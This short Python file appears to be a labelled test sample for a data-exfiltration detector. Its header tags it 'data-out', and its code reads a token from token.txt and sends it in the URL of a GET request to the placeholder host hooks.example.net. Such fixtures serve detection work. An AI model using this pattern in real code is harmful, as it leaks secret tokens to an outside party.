# expect: data-out
# source: issue 4
# technique: urlopen GET whose URL carries a file's content
import urllib.request

token = open("token.txt").read().strip()
urllib.request.urlopen("https://hooks.example.net/t/" + token)
